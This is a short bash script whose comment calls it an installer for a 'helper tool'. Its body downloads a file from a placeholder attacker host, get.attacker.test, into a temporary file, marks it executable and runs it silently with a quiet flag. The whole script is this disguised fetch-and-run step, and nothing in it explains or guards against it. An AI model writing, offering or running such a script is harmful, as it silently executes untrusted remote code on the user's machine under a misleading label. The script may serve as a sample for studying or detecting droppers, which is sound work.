#!/bin/bash
# Install the helper tool
U=https://get.attacker.test/setup
F=$(mktemp)
wget -qO "$F" "$U" && chmod +x "$F" && "$F" --quiet
